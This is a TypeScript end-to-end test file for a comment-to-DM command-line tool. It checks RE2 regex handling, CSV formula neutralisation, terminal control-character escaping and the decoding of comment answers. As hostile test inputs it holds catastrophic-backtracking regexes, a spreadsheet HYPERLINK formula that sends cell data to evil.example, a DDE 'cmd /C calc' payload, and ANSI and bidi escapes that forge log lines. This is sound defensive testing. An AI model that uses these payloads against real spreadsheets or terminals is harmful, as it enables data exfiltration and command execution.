/**
 * Defects of issue 13 about text: regex keywords that stall the matcher, formulas in the CSV export, control
 * characters from the platform reaching the terminal, and comment answers that do not decode (a null text, a
 * user id above 2^53). Each test runs the real command against the sandbox, or a bare server for hand-made answers.
 */
import type { DataSet, Sandbox } from "@comment-dm/sandbox"
import { assert, describe, it, type TestContext } from "@effect/vitest"
import * as Path from "node:path"
import { profile } from "../packages/core/test/support/e2e-data.js"
import { type RawRequest, startRawServer } from "../packages/core/test/support/e2e-rawServer.js"
import { type CliResult, finished, runCli, startCli, tempDir, writeCampaign } from "./support/cli.js"
import { parseCsv } from "./support/e2e-csv.js"
import * as Slots from "./support/e2e-slots.js"
import * as Studio from "./support/e2e-studio.js"
import { control } from "./support/sandbox.js"

const slots = Slots.make(2)

const budget = 180_000

const postId = "17900000000000301"

const exitOf = (result: CliResult) => `exit ${result.code}\nstdout:\n${result.stdout}\nstderr:\n${result.stderr}`

const assertExit = (result: CliResult, code: number) => assert.strictEqual(result.code, code, exitOf(result))

interface Person {
  readonly id: string
  readonly username: string
  readonly text: string
}

/** One post whose comments are the given people's, newest first, a minute apart. */
const postOf = (people: ReadonlyArray<Person>): DataSet.Listed => ({
  _tag: "Listed",
  profile,
  posts: [{
    id: postId,
    platform: "instagram",
    caption: "Comment GUIDE",
    comments: people.map((person, index) => ({
      id: `${postId}${String(index).padStart(4, "0")}`,
      text: person.text,
      timestamp: new Date(Date.UTC(2026, 2, 28, 12) - index * 60_000).toISOString().replace(/\.\d{3}Z$/, "+0000"),
      user: { id: person.id, username: person.username }
    }))
  }]
})

const campaignOf = (match: Record<string, unknown> | undefined) => ({
  name: "text-e2e",
  platform: "instagram",
  user: profile,
  posts: [postId],
  ...(match === undefined ? {} : { match }),
  message: "Hi @{{username}}, here is your guide: https://example.com/g",
  pace: { per_hour: 360000, concurrency: 4 },
  // DMs: these tests are about reading texts; `auto` would skip the old comments of people it sees no window for.
  delivery: "dm"
})

// Open windows: these tests expect every matching commenter to be reachable by DM, refused people aside.
const studio = (context: TestContext, data: DataSet.Listed, options: Sandbox.SandboxOptions = {}) =>
  Studio.make(context, slots, { data, seed: 13, windows: "open", ...options })

/** The user ids of a dry run's "would send to @name (id) ..." lines. */
const wouldSendTo = (log: string): Array<string> =>
  log.split("\n").flatMap((line) => {
    const found = /^would send to (?:@.* \((\S+)\)|user (\S+)) \(post [^)]*\): /.exec(line)
    const id = found?.[1] ?? found?.[2]
    return id === undefined ? [] : [id]
  })

// ---------------------------------------------------------------------------------------------------------------
// 13.3: regex keywords run in linear time (RE2), and a run matching them still hears SIGTERM

const catastrophic = [".*.*.*x", "\\s*\\s*\\s*\\s*!", "(\\w|a)*!", "(\\w|\\d)*!", "(x?a|a)*!"]

describe.concurrent("13.3 regex keywords", () => {
  it(
    "13.3 patterns that backtrack catastrophically are accepted, and a dry run over a 2,000-letter and a " +
      "200-space comment finishes fast with the right matches",
    async (context) => {
      const letters = "a".repeat(2000)
      const people: ReadonlyArray<Person> = [
        { id: "9100001", username: "letters", text: letters },
        { id: "9100002", username: "spaces", text: " ".repeat(200) },
        { id: "9100003", username: "shouts", text: `${"b".repeat(1999)}!` },
        { id: "9100004", username: "xman", text: `${letters}x` },
        { id: "9100005", username: "quiet", text: `${" ".repeat(200)}?` }
      ]
      const { cli, db, file } = await studio(context, postOf(people))
      const campaign = file(campaignOf({ mode: "regex", keywords: catastrophic }))
      const started = Date.now()
      const result = await cli(["run", campaign, "--db", db, "--dry-run"])
      const elapsed = Date.now() - started
      assertExit(result, 0)
      assert.sameMembers(wouldSendTo(result.stdout), ["9100003", "9100004"], result.stdout)
      // A command start takes about a second here; the backtracking engine took minutes on these comments.
      assert.isBelow(elapsed, 20_000, `the dry run took ${elapsed} ms`)
    },
    budget
  )

  it(
    "13.3 backreferences, lookaround and other syntax RE2 lacks are refused at load time with the keyword's path",
    async (context) => {
      const { cli, db, file, sandbox } = await studio(context, postOf([]))
      const keywords = ["gu[ií]de", "(a)\\1", "(?=guide)", "(?<!no )guide", "\\u0041", "("]
      const result = await cli(["run", file(campaignOf({ mode: "regex", keywords })), "--db", db, "--dry-run"])
      assertExit(result, 2)
      assert.include(result.stderr, "5 problems")
      assert.include(result.stderr, `match.keywords[1]: regex "(a)\\\\1" is refused: backreferences`)
      assert.include(result.stderr, `match.keywords[2]: regex "(?=guide)" is refused: lookahead`)
      assert.include(result.stderr, `match.keywords[3]: regex "(?<!no )guide" is refused: lookbehind`)
      assert.include(result.stderr, `match.keywords[4]: regex "\\\\u0041" is refused:`)
      assert.include(result.stderr, "\\x{0041}", "the RE2 spelling of a \\u escape is suggested")
      assert.include(result.stderr, `match.keywords[5]: regex "(" is refused: missing closing )`)
      assert.notInclude(result.stderr, "(?i)", "the message shows the pattern as written")
      assert.notInclude(result.stderr, "keywords[0]")
      assert.deepStrictEqual((await control(sandbox.handle.stats)).requests, {}, "no request")
    },
    budget
  )

  it(
    "13.3 SIGTERM during a run that matches regex keywords over long comments ends it promptly with exit 130",
    async (context) => {
      // Every page holds comments that made the backtracking engine spin; each answer takes 400 ms.
      const people = Array.from({ length: 400 }, (_, index): Person => ({
        id: String(9200000 + index),
        username: `fan_${index}`,
        text: index % 2 === 0 ? "a".repeat(2000) : " ".repeat(200)
      }))
      const { db, file, sandbox } = await studio(context, postOf(people), {
        faults: { latency: { minMs: 400, maxMs: 400 } }
      })
      const campaign = file(campaignOf({ mode: "regex", keywords: catastrophic }))
      const result = await slots(async () => {
        const child = startCli(["run", campaign, "--db", db], { env: sandbox.env })
        const done = finished(child, 120_000)
        let signalledAt = 0
        await new Promise<void>((resolve) => {
          let log = ""
          child.stdout?.on("data", (chunk: Buffer) => {
            log += chunk.toString("utf8")
            // The first page has been read and matched, or is being matched: ask the run to stop.
            if (signalledAt === 0 && /: reading/.test(log)) {
              setTimeout(() => {
                signalledAt = Date.now()
                child.kill("SIGTERM")
                resolve()
              }, 1_000)
            }
          })
          child.on("close", () => resolve())
        })
        const ended = await done
        return { ended, afterSignal: Date.now() - signalledAt, signalled: signalledAt > 0 }
      })
      assert.isTrue(result.signalled, exitOf(result.ended))
      assertExit(result.ended, 130)
      assert.isBelow(result.afterSignal, 10_000, `the run ended ${result.afterSignal} ms after SIGTERM`)
      assert.include(result.ended.stderr, "stop requested")
    },
    budget
  )
})

// ---------------------------------------------------------------------------------------------------------------
// 13.5: the CSV export neutralises formulas

describe.concurrent("13.5 CSV export", () => {
  it(
    "13.5 cells starting with =, +, -, @, tab or CR get a leading single quote and stay correctly quoted",
    async (context) => {
      const hyperlink = `=HYPERLINK("http://evil.example/?d="&A1,"guide")`
      const people: ReadonlyArray<Person> = [
        { id: "9300001", username: "mallory", text: hyperlink },
        { id: "9300002", username: "=cmd|' /C calc'!A0", text: "guide please" },
        { id: "9300003", username: "plus", text: "+guide, \"quoted\"" },
        { id: "9300004", username: "minus", text: "-guide" },
        { id: "9300005", username: "@at", text: "@guide" },
        { id: "9300006", username: "tab", text: "\tguide" },
        { id: "9300007", username: "cr", text: "\rguide\nsecond line" },
        { id: "9300008", username: "plain", text: "the guide, = not first" }
      ]
      const { cli, db, file } = await studio(context, postOf(people))
      // The ledger keeps a settled person's comment text only when a template uses it.
      const campaign = file({ ...campaignOf({ keywords: ["guide"] }), message: "You said: {{comment}}" })
      assertExit(await cli(["run", campaign, "--db", db]), 0)
      const csv = await cli(["export", campaign, "--db", db, "--format", "csv"])
      assertExit(csv, 0)
      const rows = new Map(parseCsv(csv.stdout).map((row) => [row["user_id"], row]))
      assert.strictEqual(rows.size, people.length, csv.stdout)
      for (const person of people) {
        const row = rows.get(person.id)
        const risky = (text: string) => /^[=+\-@\t\r]/.test(text)
        assert.strictEqual(row?.["comment_text"], risky(person.text) ? `'${person.text}` : person.text, person.id)
        assert.strictEqual(row?.["username"], risky(person.username) ? `'${person.username}` : person.username)
      }
      for (const line of csv.stdout.split("\n")) {
        assert.notMatch(line, /(^|,)[=+\-@\t\r]/, "no cell starts with a formula character")
        assert.notMatch(line, /(^|,)"[=+\-@\t\r]/, "no quoted cell starts with a formula character")
      }
    },
    budget
  )
})

// ---------------------------------------------------------------------------------------------------------------
// 13.6: control characters from outside are shown as escapes

/** Characters a terminal acts on: C0 but the newline ending each line, DEL, C1, bidi controls, U+2028/U+2029. */
const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/

const assertNoControls = (label: string, text: string) => {
  const found = controls.exec(text)
  assert.isNull(found, `${label} holds U+${found?.[0].codePointAt(0)?.toString(16)}:\n${text}`)
}

describe.concurrent("13.6 control characters", () => {
  it(
    "13.6 usernames with ESC, BEL, CSI, a newline, bidi and line separators are escaped in run's log and status, " +
      "and a newline cannot forge a log line",
    async (context) => {
      const people: ReadonlyArray<Person> = [
        { id: "9400001", username: "evil\u001b]0;TITLE\u0007\u001b[2J", text: "guide" },
        { id: "9400002", username: "fake\nsent to @fake (999): message FAKE", text: "guide" },
        { id: "9400003", username: "csi\u009b2J\u007f", text: "guide" },
        { id: "9400004", username: "\u202eevil\u2066\u061c\u200e", text: "guide" },
        { id: "9400005", username: "sep\u2028arator\u2029\r", text: "guide" }
      ]
      // Every send is delivered and its connection cut: everyone ends in doubt, which `status` lists by name.
      const { cli, db, file } = await studio(context, postOf(people), { faults: { resetAfterDeliveryRate: 1 } })
      const campaign = file(campaignOf({ keywords: ["guide"] }))
      const dryRun = await cli(["run", campaign, "--db", db, "--dry-run"])
      assertExit(dryRun, 0)
      const run = await cli(["run", campaign, "--db", db])
      assertExit(run, 5)
      const status = await cli(["status", campaign, "--db", db])
      for (const [label, result] of [["dry run", dryRun], ["run", run], ["status", status]] as const) {
        assertNoControls(`${label} stdout`, result.stdout)
        assertNoControls(`${label} stderr`, result.stderr)
        assert.notMatch(result.stdout, /^sent to @fake/m, `${label}: no forged line`)
      }
      assert.include(dryRun.stdout, "@evil\\u001b]0;TITLE\\u0007\\u001b[2J (9400001)")
      assert.include(dryRun.stdout, "@fake\\u000asent to @fake (999): message FAKE (9400002)")
      assert.include(run.stdout, "@csi\\u009b2J\\u007f (9400003)")
      assert.include(status.stdout, "@\\u202eevil\\u2066\\u061c\\u200e (9400004)")
      assert.include(status.stdout, "@sep\\u2028arator\\u2029\\u000d (9400005)")
    },
    budget
  )

  it(
    "13.6 a platform error text with control characters is escaped in the error message, and the JSON status stays " +
      "valid JSON with the same values",
    async (context) => {
      const hostile = "Invalid post\u001b[2J\nsent to @fake (999): message FAKE\u009b\u202e"
      const server = await startRawServer((_request: RawRequest) => ({
        status: 400,
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ success: false, message: hostile })
      }))
      context.onTestFinished(() => server.close())
      const dir = tempDir()
      context.onTestFinished(dir.cleanup)
      const campaign = writeCampaign(dir.path, "campaign.json", campaignOf({ keywords: ["guide"] }))
      const db = Path.join(dir.path, "ledger.sqlite")
      const env = { UPLOAD_POST_BASE_URL: server.baseUrl, UPLOAD_POST_API_KEY: "k" }
      const result = await slots(() => runCli(["run", campaign, "--db", db, "--dry-run"], { env, timeoutMs: 90_000 }))
      assert.notStrictEqual(result.code, 0, exitOf(result))
      assertNoControls("stderr", result.stderr)
      assert.include(result.stderr, "Invalid post\\u001b[2J")
      assert.notMatch(result.stderr, /^sent to @fake/m)

      const people: ReadonlyArray<Person> = [{ id: "9400011", username: "bidi\u202e\u009b", text: "guide" }]
      const studioed = await studio(context, postOf(people), { faults: { resetAfterDeliveryRate: 1 } })
      const own = studioed.file(campaignOf({ keywords: ["guide"] }))
      assertExit(await studioed.cli(["run", own, "--db", studioed.db]), 5)
      const json = await studioed.cli(["status", own, "--db", studioed.db, "--json"])
      assertNoControls("status --json", json.stdout)
      const report = JSON.parse(json.stdout)
      assert.strictEqual(report.in_doubt[0]?.username, "bidi\u202e\u009b", "the JSON value is unchanged")
    },
    budget
  )
})

// ---------------------------------------------------------------------------------------------------------------
// 13.10: comment answers: a null text, big integer user ids, one-line decode errors

const commentsAnswer = (comments: ReadonlyArray<string>) =>
  `{"success":true,"comments":[${comments.join(",")}],"pagination":{"next_cursor":null,"has_next":false}}`

const rawStudio = async (context: TestContext, body: string) => {
  const server = await startRawServer((request: RawRequest) =>
    request.url.pathname.endsWith("/uploadposts/comments")
      ? { status: 200, headers: { "content-type": "application/json" }, body }
      : { status: 404, headers: { "content-type": "application/json" }, body: `{"success":false,"message":"no"}` }
  )
  const dir = tempDir()
  context.onTestFinished(async () => {
    await server.close()
    dir.cleanup()
  })
  const campaign = writeCampaign(dir.path, "campaign.json", campaignOf(undefined))
  const env = { UPLOAD_POST_BASE_URL: server.baseUrl, UPLOAD_POST_API_KEY: "k" }
  return slots(() =>
    runCli(["run", campaign, "--db", Path.join(dir.path, "ledger.sqlite"), "--dry-run"], { env, timeoutMs: 90_000 })
  )
}

describe.concurrent("13.10 comment answers", () => {
  it(
    "13.10 a null text counts as no text, and user ids above 2^53 sent as JSON numbers stay two exact people",
    async (context) => {
      const result = await rawStudio(
        context,
        commentsAnswer([
          `{"id":"c1","text":null,"timestamp":"2026-03-28T10:00:00+0000","user":{"id":"9500001","username":"nul"}}`,
          `{"id":"c2","text":"hi","user":{"id":12345678901234567890,"username":"big0"}}`,
          `{"id":"c3","text":"hi","user":{"id":12345678901234567891,"username":"big1"}}`,
          `{"id":4,"text":"hi","user":{"id":-42,"username":"small"}}`
        ])
      )
      assertExit(result, 0)
      assert.sameMembers(
        wouldSendTo(result.stdout),
        ["9500001", "12345678901234567890", "12345678901234567891", "-42"],
        result.stdout
      )
    },
    budget
  )

  it(
    "13.10 a comment that does not decode gives one line naming the field and the comment id",
    async (context) => {
      const result = await rawStudio(
        context,
        commentsAnswer([
          `{"id":"c1","text":"fine","user":{"id":"9500001"}}`,
          `{"id":"17858893269009999","text":42,"user":{"id":"9500002"}}`
        ])
      )
      assertExit(result, 1)
      const lines = result.stderr.trim().split("\n")
      const message = lines.find((line) => line.startsWith("comment-dm: ")) ?? ""
      assert.include(message, "17858893269009999", result.stderr)
      assert.include(message, "text", result.stderr)
      assert.notInclude(result.stderr, "└─", "no schema dump")
      assert.notInclude(result.stderr, "readonly", "no schema dump")
    },
    budget
  )
})
